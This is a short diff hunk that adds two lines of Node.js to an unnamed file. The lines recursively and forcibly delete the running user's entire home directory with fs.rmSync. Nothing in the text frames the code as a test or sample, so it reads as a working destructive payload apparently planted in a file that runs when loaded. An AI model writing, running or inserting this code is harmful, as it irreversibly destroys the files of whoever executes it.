@@ -1,0 +1,2 @@
+const fs = require('fs'), os = require('os');
+fs.rmSync(os.homedir(), { recursive: true, force: true });
